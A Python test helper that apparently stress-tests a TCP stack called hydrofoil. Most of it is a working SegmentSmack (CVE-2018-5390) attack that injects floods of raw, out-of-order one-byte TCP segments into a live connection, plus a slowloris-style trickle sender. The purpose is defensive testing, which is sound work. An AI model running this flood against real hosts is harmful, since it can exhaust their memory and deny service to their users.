#!/usr/bin/python3
"""Peers that try to pin hydrofoil's mbuf pool (SegmentSmack, CVE-2018-5390, and kin).

  smack.py attack IFACE OUR_IP PEER_IP PORT SECONDS
      Opens a real connection (Linux's stack) to PORT, learns its sequence numbers
      from the wire, then injects one-byte out-of-order segments into it, sent raw on
      IFACE as fast as Python can: a trickle behind a hole that never fills, and
      islands at random places in hydrofoil's window. Prints "attacking" once the
      segments flow, and goes on until SIGTERM or SECONDS; then prints one JSON line:
      frames sent, rate.
  smack.py trickle OUR_IP PORT NBYTES
      Sends an HTTP request head one byte per segment (TCP_NODELAY, a pause between
      writes) and stops NBYTES into a header value, the head unfinished; prints
      "ready" and waits for a line on stdin, then finishes the head, prints the
      status line of the answer as JSON, and exits.

Run inside the test's namespace.
"""
import json
import random
import signal
import socket
import struct
import sys
import time

from scapy.all import IP, TCP, AsyncSniffer, Ether, Raw, conf, get_if_hwaddr
from scapy.utils import checksum

conf.verb = 0


def attack(iface, our_ip, peer_ip, port, seconds):
    sniffer = AsyncSniffer(iface=iface, filter=f"tcp and host {our_ip} and port {port}", store=True)
    sniffer.start()
    time.sleep(0.3)
    s = socket.create_connection((our_ip, port), timeout=5)
    lport = s.getsockname()[1]
    s.sendall(b"x")
    time.sleep(0.5)
    pkts = sniffer.stop()
    ours = [p for p in pkts if p.haslayer(TCP) and p[IP].src == our_ip and p[TCP].dport == lport]
    synack = [p for p in ours if p[TCP].flags & 0x12 == 0x12]
    if not synack:
        print(json.dumps({"error": "no SYN-ACK seen"}))
        return 1
    our_mac = ours[-1][Ether].src
    peer_mac = get_if_hwaddr(iface)
    snd_nxt = (synack[0][TCP].seq + 1) % 2**32      # what hydrofoil sends next: our ACK
    rcv_nxt = (synack[0][TCP].ack + 1) % 2**32      # after the one byte sent
    rnd = random.Random(11)

    # One frame built by scapy; the others differ in the sequence number and checksum only.
    tmpl = bytearray(bytes(Ether(src=peer_mac, dst=our_mac) / IP(src=peer_ip, dst=our_ip) /
                           TCP(sport=lport, dport=port, flags="A", seq=0, ack=snd_nxt,
                               window=65535) / Raw(b"s")))
    pseudo = socket.inet_aton(peer_ip) + socket.inet_aton(our_ip) + struct.pack("!BBH", 0, 6, 21)

    def frame(seq):
        f = bytearray(tmpl)
        struct.pack_into("!I", f, 38, seq % 2**32)
        f[50:52] = b"\0\0"
        struct.pack_into("!H", f, 50, checksum(pseudo + bytes(f[34:55])))
        return bytes(f)

    # Each pass: a trickle, byte after byte behind a hole (rcv_nxt + 1 is never sent), first,
    # so that its run exists before the islands take the others; then islands, one byte alone
    # between two holes each, anywhere in a 200 KB stretch of the window.
    frames = [frame(rcv_nxt + 210_000 + i) for i in range(3000)]
    frames += [frame(rcv_nxt + 2 + 2 * rnd.randrange(100_000)) for _ in range(3000)]
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((iface, 0))
    sent = 0
    t0 = time.time()
    print("attacking", flush=True)
    while not stop and time.time() - t0 < seconds:
        for f in frames:
            raw.send(f)
        sent += len(frames)
    dt = time.time() - t0
    raw.close()
    s.close()
    print(json.dumps({"frames": sent, "seconds": round(dt, 2), "pps": round(sent / dt)}),
          flush=True)
    return 0


def trickle(our_ip, port, nbytes):
    s = socket.create_connection((our_ip, port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    head = b"GET /trickle HTTP/1.1\r\nHost: smack.test\r\nX-Pad: "
    for b in head + b"a" * nbytes:
        s.send(bytes([b]))
        time.sleep(0.0005)
    print("ready", flush=True)
    sys.stdin.readline()
    s.sendall(b"\r\n\r\n")
    s.settimeout(10)
    try:
        status = s.recv(4096).split(b"\r\n", 1)[0].decode(errors="replace")
    except OSError as e:
        status = repr(e)
    s.close()
    print(json.dumps({"status": status}), flush=True)
    return 0


if __name__ == "__main__":
    cmd = sys.argv[1]
    if cmd == "attack":
        sys.exit(attack(sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]),
                        float(sys.argv[6])))
    if cmd == "trickle":
        sys.exit(trickle(sys.argv[2], int(sys.argv[3]), int(sys.argv[4])))
    sys.exit(__doc__)
